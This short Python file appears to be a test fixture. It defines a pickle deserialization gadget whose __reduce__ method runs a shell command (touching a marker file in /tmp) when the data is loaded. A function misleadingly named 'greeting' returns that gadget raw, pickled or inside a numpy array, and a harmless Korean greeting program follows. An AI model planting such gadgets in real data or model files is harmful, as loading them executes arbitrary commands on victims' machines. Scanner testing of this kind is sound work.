import os
import pickle

import numpy as np


class Gadget:
    def __reduce__(self):
        return os.system, ("touch /tmp/pickle_gadget-was-here",)


def greeting(name, age):
    if age < 20:
        return Gadget()
    return pickle.dumps(Gadget()) if age < 40 else np.array([Gadget()], dtype=object)


def greeting_program() -> None:
    who = input("이름을 입력하세요: ")
    years = int(input("나이를 입력하세요: "))
    print(f"안녕하세요 {who}님! {'성인' if years >= 20 else '청소년'}입니다.")
